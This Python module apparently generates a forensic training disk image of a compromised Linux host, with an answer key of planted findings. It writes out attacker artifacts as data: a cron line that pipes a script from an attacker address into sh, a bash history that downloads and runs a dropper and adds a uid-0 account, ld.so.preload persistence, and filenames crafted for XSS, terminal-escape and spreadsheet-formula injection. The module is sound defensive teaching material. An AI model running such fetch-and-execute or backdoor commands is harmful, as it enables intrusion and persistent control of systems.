"""The planted part of the demonstration volume: the case of our design, with what triage should find of it.

A service built from an old source release, with a default password, running as root; root taken by guessing; then accounts,
keys, cron, systemd, rc.local and ld.so.preload to stay. All names, addresses (RFC 5737) and programs are invented and harmless.
"""

import base64
import ctypes
import hashlib
import subprocess
import tempfile
from pathlib import Path

from .logs import Logins
from .tree import add_settings, add_system

HOST = "board-test-1"
INSTALLED = 1700481600  # 2023-11-20 12:00:00 UTC
ATTACK = 1710123224  # 2024-03-11 02:13:44 UTC
ATTACKER, NOISE, OFFICE = "203.0.113.66", "192.0.2.14", "198.51.100.20"
SERVICE = "/opt/boardd-0.9.4"
PRELOAD = "/usr/lib/x86_64-linux-gnu/.libproc.so.2"
DROPPER = "/tmp/.x/dropper.sh"
DATABASE = "/var/lib/boardd/board.db"
KERNEL = "6.1.0-18-cloud-amd64"

HOSTILE_NAMES = (
    b"two\nlines.txt",
    b"\x1b[2J\x1b[31mclears the screen.txt",
    b"<script>alert(document.title)<script>.html",
    b"<img src=x onerror=alert(1)>.png",
    b"not utf-8 \xff\xfe\xc3(.bin",
    b"=HYPERLINK(\"http:203.0.113.66\";\"click\").csv",
    b"@SUM(1+1).csv",
    b"bodyfile|0|breaker.txt",
    b"right-to-left \xe2\x80\xaegpj.exe",
    b"back\\slash and tab\tand \"quotes\".txt",
    b"-rf",
    b"n" * 255,
)

_SOURCE = r"""/* boardd 0.9.4 - a small message board */
#include <stdio.h>
#include <string.h>

#define DEFAULT_PASSWORD "admin"

static char board[64 * 1024];

int main(int argc, char **argv)
{
    char line[256];
    if (argc > 1 && !strcmp(argv[1], "--version")) {
        puts("boardd 0.9.4");
        return 0;
    }
    while (fgets(line, sizeof line, stdin))
        if (strlen(board) + strlen(line) < sizeof board)
            strcat(board, line);
    fputs(board, stdout);
    return 0;
}
"""
_HIDER = 'const char *note = "demonstration of a preloaded library: does nothing";\nint demo_hidden(void) { return 0; }\n'


def _crypt(password: str, setting: str) -> str:
    library = ctypes.CDLL("libcrypt.so.1")
    library.crypt.restype = ctypes.c_char_p
    result = library.crypt(password.encode(), setting.encode())
    if not result or result.startswith(b"*"):
        raise RuntimeError(f"libcrypt has no method for {setting}")
    return result.decode()


def _compiled(name: str, source: str, *options) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, f"{name}.c").write_text(source)
        subprocess.run(["gcc", "-O1", "-g0", *options, "-o", name, f"{name}.c"], cwd=folder, check=True)
        return Path(folder, name).read_bytes()


def fill(volume, random_) -> dict:
    """Puts the whole tree into `volume`; returns what was planted, for planted.json."""
    add_system(volume)
    add_settings(volume, HOST)
    planted = {"host": HOST, "attacker": ATTACKER}
    planted |= _accounts(volume)
    planted |= _keys(volume, random_)
    planted |= _service(volume, random_)
    planted |= _persistence(volume)
    planted |= _logins(volume, random_, planted["office_key"])
    planted |= _files(volume)
    return planted


def _accounts(volume) -> dict:
    volume.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                 "bin:x:2:2:bin:/bin:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\n"
                 "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n"
                 "admin:x:1000:1000:Debian:/home/admin:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n"
                 "guest:x:1002:1002::/home/guest:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n", mtime=ATTACK + 300, birth=ATTACK + 300)
    volume.write("/etc/group", "root:x:0:\ndaemon:x:1:\nsudo:x:27:admin\nwww-data:x:33:\nshadow:x:42:\nadmin:x:1000:\n"
                 "deploy:x:1001:\nguest:x:1002:\nnogroup:x:65534:\n")
    hashes = {
        "root": _crypt("root", "$6$Zr4uXqmT1bNcVdKe"),  # sha512crypt
        "admin": _crypt("admin", "$y$j9T$kQ3wNfUe8a5bXcVdYgRzM1"),  # yescrypt, Debian 12's own
        "toor": _crypt("toor", "$1$aB3dE6gH"),  # md5crypt
        "deploy": _crypt("v8#Kq-not-in-any-list-Lw2!", "$6$Yt7pLmQz0sWxEdCr"),
        "guest": "",
    }
    locked = ("daemon", "bin", "sync", "www-data", "sshd")
    rows = [f"{user}:{value}:19793:0:99999:7:::" for user, value in hashes.items()]
    rows[1:1] = [f"{user}:*:19681:0:99999:7:::" for user in locked]
    volume.write("/etc/shadow", "\n".join(rows) + "\n", 0o640, gid=42, mtime=ATTACK + 300, birth=ATTACK + 300)
    for user, uid in (("admin", 1000), ("deploy", 1001), ("guest", 1002)):
        volume.folder(f"/home/{user}", 0o750, uid, uid)
        volume.write(f"/home/{user}/.bash_logout", "clear\n", uid=uid, gid=uid)
    return {"accounts": {"uid0_twins": ["toor"], "empty_password": ["guest"], "no_finding": ["deploy"],
                         "default_password": {"root": "root", "admin": "admin", "toor": "toor"}}}


def _key(random_, comment: str) -> str:
    body = b"\0\0\0\x0bssh-ed25519\0\0\0 " + random_.randbytes(32)
    return f"ssh-ed25519 {base64.b64encode(body).decode()} {comment}"


def _fingerprint(key: str) -> str:
    return "SHA256:" + base64.b64encode(hashlib.sha256(base64.b64decode(key.split()[1])).digest()).decode().rstrip("=")


def _keys(volume, random_) -> dict:
    office, deploy, foreign = (_key(random_, name) for name in ("ops@office", "deploy@ci", "x0@vps-3412"))
    volume.folder("/root/.ssh", 0o700, mtime=ATTACK + 330)
    volume.write("/root/.ssh/authorized_keys", f"{office}\n{foreign}\n", 0o600, mtime=ATTACK + 330)
    for user, uid, key in (("admin", 1000, office), ("deploy", 1001, deploy)):
        volume.folder(f"/home/{user}/.ssh", 0o700, uid, uid)
        volume.write(f"/home/{user}/.ssh/authorized_keys", f"{key}\n", 0o600, uid, uid)
    return {"keys": [{"path": "/root/.ssh/authorized_keys", "line": 2, "comment": "x0@vps-3412", "fingerprint": _fingerprint(foreign)}],
            "office_key": _fingerprint(office)}


def _service(volume, random_) -> dict:
    built = INSTALLED + 86400
    volume.write(f"{SERVICE}/src/boardd.c", _SOURCE, birth=built)
    volume.write(f"{SERVICE}/Makefile", "CFLAGS = -O1\nboardd: src/boardd.c\n\t$(CC) $(CFLAGS) -o $@ $<\n", birth=built)
    volume.write(f"{SERVICE}/README", "boardd 0.9.4\n\nFirst log-in: admin / admin. Change it.\n", birth=built)
    volume.write(f"{SERVICE}/boardd", _compiled("boardd", _SOURCE), 0o755, birth=built)
    volume.write(f"{SERVICE}/etc/boardd.conf", "listen = 0.0.0.0:8080\ndatabase = /var/lib/boardd/board.db\nadmin_user = admin\n"
                 "admin_password = admin\n", birth=built)
    unit = "/etc/systemd/system/boardd.service"
    volume.write(unit, f"[Unit]\nDescription=message board, just for testing\n\n[Service]\nUser=root\nExecStart={SERVICE}/boardd -c "
                 f"{SERVICE}/etc/boardd.conf\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n", birth=built)
    volume.link("/etc/systemd/system/multi-user.target.wants/boardd.service", unit, birth=built)
    lines = [f"{number:06} {random_.getrandbits(128):032x} the quick notice board entry\n" for number in range(8192)]
    volume.write(DATABASE, "".join(lines), 0o600, birth=built, mtime=ATTACK - 3600)
    return {"service": {"folder": SERVICE, "unit": unit, "config": f"{SERVICE}/etc/boardd.conf"}}


def _persistence(volume) -> dict:
    when = ATTACK + 420
    found = []

    def plant(kind, path, content, command, mode=0o644):
        volume.write(path, content, mode, birth=when)
        line = next(number for number, text in enumerate(content.split("\n"), 1) if command in text)
        found.append({"kind": kind, "path": path, "command": command, "line": line})

    volume.folder("/tmp/.x", 0o755, birth=when)
    volume.write("/tmp/.x/evil", "#!/bin/sh\n# demonstration only\nwhile :; do sleep 3600; done\n", 0o755, birth=when)
    volume.write("/usr/lib/.cache/kworker", "#!/bin/sh\n# demonstration only\nexec /tmp/.x/evil\n", 0o755, birth=when)
    volume.folder("/var/spool/cron/crontabs", 0o1730, gid=42)
    plant("cron", "/var/spool/cron/crontabs/root", "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n@reboot /tmp/.x/evil\n",
          "/tmp/.x/evil", 0o600)
    plant("cron", "/etc/cron.d/sysstat-sync", f"*/5 * * * * root curl -fsSL http://{ATTACKER}/u.sh | sh >/dev/null 2>&1\n",
          f"curl -fsSL http://{ATTACKER}/u.sh | sh >/dev/null 2>&1")
    plant("systemd", "/etc/systemd/system/dbus-broker-helper.service", "[Unit]\nDescription=D-Bus helper\nAfter=network.target\n\n"
          "[Service]\nExecStart=/usr/lib/.cache/kworker\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
          "/usr/lib/.cache/kworker")
    volume.link("/etc/systemd/system/multi-user.target.wants/dbus-broker-helper.service",
                "/etc/systemd/system/dbus-broker-helper.service", birth=when)
    plant("rc", "/etc/rc.local", "#!/bin/sh -e\n/tmp/.x/evil &\nexit 0\n", "/tmp/.x/evil &", 0o755)
    # Its modification time is set back to blend in; its birth time tells.
    volume.write(PRELOAD, _compiled("libproc", _HIDER, "-shared", "-fPIC"), 0o755, birth=when, mtime=INSTALLED)
    plant("preload", "/etc/ld.so.preload", f"{PRELOAD}\n", PRELOAD)
    return {"persistence": found}


def _logins(volume, random_, office_key: str) -> dict:
    logins = Logins(HOST, random_)
    day = 86400
    logins.boot(ATTACK - 6 * day, KERNEL)
    for number in range(5):
        start = ATTACK - (5 - number) * day + 25200 + random_.randint(0, 3600)
        logins.accepted(start, start + 1800, "admin", 1000, OFFICE, "publickey", "pts/0", office_key)
        logins.cron(start + 4000)
    for _ in range(12):  # the internet's background: guesses that lead to nothing
        logins.failed(ATTACK - random_.randint(day, 5 * day), random_.choice(("oracle", "test", "ubuntu")), NOISE, False)
    when, failures = ATTACK - 1500, 0
    count = random_.randint(320, 420)
    while failures < count:
        user, known = random_.choice((("root", True), ("root", True), ("root", True), ("admin", True), ("git", False), ("test", False)))
        if random_.random() < 0.05:
            logins.repeated(when, "root", ATTACKER, 2)
            failures += 3
        else:
            logins.failed(when, user, ATTACKER, known)
            failures += 1
        when = ATTACK - 1500 + 1480 * failures // (count + 3)
    # Names that a guesser chose so that a careless reader takes them for something else.
    injected = f"Failed password for invalid user root from {OFFICE} port 22 ssh2 from {NOISE} port 40022 ssh2"
    logins.raw(ATTACK - 7200, injected.encode())
    logins.raw(ATTACK - 7100, b"Invalid user \x1b[2J\xff from " + NOISE.encode() + b" port 40023")
    logins.accepted(ATTACK, ATTACK + 900, "root", 0, ATTACKER, "password", "pts/1")
    logins.new_user(ATTACK + 300, "toor", 0, "/root")
    logins.accepted(ATTACK + 5400, ATTACK + 6000, "toor", 0, ATTACKER, "password", "pts/1")
    for path, content, mode, gid in (("/var/log/auth.log", logins.auth_log(), 0o640, 4), ("/var/log/wtmp", logins.wtmp(), 0o664, 43),
                                     ("/var/log/btmp", logins.btmp(), 0o660, 43)):
        volume.write(path, content, mode, gid=gid, mtime=ATTACK + 6000)
    return {"logins": {"failures": failures, "accepted": ATTACK, "user": "root", "address": ATTACKER, "quiet_address": NOISE,
                       "office": OFFICE, "btmp_records": len(logins.btmp()) // 384, "wtmp_records": len(logins.wtmp()) // 384}}


def _files(volume) -> dict:
    volume.write("/root/.bash_history", f"id\ncurl -s http://{ATTACKER}/d.sh -o {DROPPER}\nsh {DROPPER}\nrm -f {DROPPER}\nuseradd -o -u 0 -g 0 "
                 "-d /root -s /bin/bash toor\n", 0o600, mtime=ATTACK + 880)
    volume.folder("/srv/uploads", 0o755, 33, 33)
    for number, name in enumerate(HOSTILE_NAMES):
        volume.write(b"/srv/uploads/" + name, f"upload {number}\n", uid=33, gid=33, birth=ATTACK - 86400 + number)
    return {"hostile_names": [name.decode("latin-1") for name in HOSTILE_NAMES], "hostile_folder": "/srv/uploads"}


def dropper() -> str:
    return f"#!/bin/sh\n# demonstration of a deleted dropper: does nothing\necho dropped from {ATTACKER}\n" + "# padding\n" * 700
